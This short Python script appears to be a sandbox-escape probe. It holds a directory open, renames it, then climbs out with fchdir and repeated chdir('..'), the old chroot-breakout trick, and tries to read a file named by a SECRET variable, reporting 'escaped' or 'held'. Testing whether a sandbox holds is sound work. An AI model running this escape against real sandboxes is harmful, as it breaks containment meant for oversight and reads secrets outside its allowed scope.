"""Walk out by a folder that was opened before it was moved away, the old way out of a chroot."""

import os
from pathlib import Path

secret = os.environ["SECRET"]
Path("a/b").mkdir(parents=True)
inner = os.open("a/b", os.O_RDONLY)
Path("a/b").rename("c")
os.fchdir(inner)
for _ in range(60):
    os.chdir("..")
found = b""
for name in (secret.lstrip("/"), secret):
    try:
        found += Path(name).read_bytes()
    except OSError as error:
        print(f"no: {error}")
print(f"escaped: {found.decode()}" if found else "held: the walk ends at the sandbox's own root")
